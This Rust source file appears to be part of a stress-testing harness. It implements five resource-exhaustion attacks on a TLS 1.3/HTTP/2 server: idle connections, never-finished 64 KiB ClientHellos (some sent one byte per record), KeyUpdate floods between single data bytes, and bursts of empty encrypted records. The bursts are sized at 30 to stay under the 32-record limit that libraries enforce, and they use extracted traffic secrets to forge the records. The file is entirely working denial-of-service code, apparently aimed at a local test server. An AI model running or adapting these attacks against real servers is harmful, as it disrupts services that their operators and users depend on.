//! Handshakes that do not end, and records that say nothing, while somebody else calls inside TLS.

use std::io::Write;
use std::sync::Arc;
use std::time::Duration;

use rustls::crypto::cipher::{OutboundChunks, OutboundPlainMessage};
use rustls::crypto::ring::default_provider;
use rustls::pki_types::ServerName;
use rustls::version::TLS13;
use rustls::{
    ClientConfig, ClientConnection, ConnectionTrafficSecrets, ContentType, ProtocolVersion,
    RootCertStore, SupportedCipherSuite,
};

use crate::attacker::{Attacker, beginning};
use crate::attacks::Act;
use crate::frames::{data, head, wide_open};
use crate::legal::HELLO;

/// Connections of one attacker of four whose ClientHello does not end, so that all have 4,000.
const HALF_HELLOS: usize = 1_000;
/// The same where each byte is a record.
const HELLOS_IN_BYTES: usize = 100;
/// Records of one write.
const BATCH: usize = 1_000;
/// What each step of a handshake may take: then the attacker tries again.
const HANDSHAKE_TIME: Duration = Duration::from_secs(1);
/// Empty records that stand together. Libraries end a connection behind 32 of them.
const EMPTY_TOGETHER: usize = 30;

pub const ACTS: [(&str, Act); 5] = [
    ("nothing inside TLS", |attacker| attacker.hold()),
    ("half ClientHellos", |attacker| attacker.crowd(HALF_HELLOS, &half_hello(16_000))),
    ("ClientHellos in bytes", |attacker| attacker.crowd(HELLOS_IN_BYTES, &half_hello(1))),
    ("KeyUpdates", key_updates),
    ("empty records", empty_records),
];

/// All of a ClientHello of 64 KiB but its last byte, in records of `record_bytes` bytes.
fn half_hello(record_bytes: usize) -> Vec<u8> {
    let mut hello = vec![1, 0, 0xfd, 0xe8];
    hello.resize(64_990, 0);
    let record = |part: &[u8]| [&[22, 3, 1][..], &(part.len() as u16).to_be_bytes(), part].concat();
    hello.chunks(record_bytes).flat_map(record).collect()
}

/// Keys that are changed before each byte of a message, and asked for in return. What comes in
/// between keeps libraries from ending that behind 32 of them.
fn key_updates(attacker: &mut Attacker) {
    let Some((mut tls, message)) = begun(attacker) else {
        return;
    };
    for part in message.chunks(BATCH).cycle() {
        let mut bytes = Vec::new();
        for byte in part.chunks(1) {
            let _ = tls.refresh_traffic_keys();
            let _ = tls.writer().write_all(byte);
            while matches!(tls.write_tls(&mut bytes), Ok(1..)) {}
        }
        attacker.send(&bytes);
        if !attacker.goes_on() {
            return;
        }
    }
}

/// Records of nothing, and now and then one of a byte of a message.
fn empty_records(attacker: &mut Attacker) {
    let Some((tls, message)) = begun(attacker) else {
        return;
    };
    let Some(SupportedCipherSuite::Tls13(suite)) = tls.negotiated_cipher_suite() else {
        return;
    };
    let Ok(secrets) = tls.dangerous_extract_secrets() else {
        return;
    };
    let (mut number, keys) = secrets.tx;
    let (ConnectionTrafficSecrets::Aes128Gcm { key, iv }
    | ConnectionTrafficSecrets::Aes256Gcm { key, iv }
    | ConnectionTrafficSecrets::Chacha20Poly1305 { key, iv }) = keys
    else {
        return;
    };
    let mut encrypter = suite.aead_alg.encrypter(key, iv);
    let mut record = |content: &[u8]| {
        let plain = OutboundPlainMessage {
            typ: ContentType::ApplicationData,
            version: ProtocolVersion::TLSv1_2,
            payload: OutboundChunks::Single(content),
        };
        let sealed = encrypter.encrypt(plain, number);
        number += 1;
        sealed.map(|record| record.encode()).unwrap_or_default()
    };
    for byte in message.chunks(1).cycle() {
        let mut bytes = record(byte);
        (0..EMPTY_TOGETHER).for_each(|_| bytes.extend(record(b"")));
        attacker.send(&bytes);
        if !attacker.goes_on() {
            return;
        }
    }
}

/// A connection with its handshake behind it, on which a call has begun, and frames of DATA that
/// may follow without end.
fn begun(attacker: &mut Attacker) -> Option<(ClientConnection, Vec<u8>)> {
    let mut roots = RootCertStore::empty();
    roots.add(attacker.server.authority.clone()?).ok()?;
    let mut config = ClientConfig::builder_with_provider(Arc::new(default_provider()))
        .with_protocol_versions(&[&TLS13])
        .ok()?
        .with_root_certificates(roots)
        .with_no_client_auth();
    config.alpn_protocols = vec![b"h2".to_vec()];
    config.enable_secret_extraction = true;
    let name = ServerName::try_from("localhost").ok()?;
    let mut tls = ClientConnection::new(Arc::new(config), name).ok()?;
    attacker.socket.set_nonblocking(false).ok()?;
    attacker.socket.set_read_timeout(Some(HANDSHAKE_TIME)).ok()?;
    attacker.socket.set_write_timeout(Some(HANDSHAKE_TIME)).ok()?;
    let begin = [beginning(), wide_open(), head(1, HELLO), data(1, &[0, 0, 0x3f, 0xff, 0])];
    tls.writer().write_all(&begin.concat()).ok()?;
    while tls.is_handshaking() || tls.wants_write() {
        tls.complete_io(&mut attacker.socket).ok()?;
    }
    attacker.socket.set_nonblocking(true).ok()?;
    Some((tls, data(1, &[7; 256])))
}
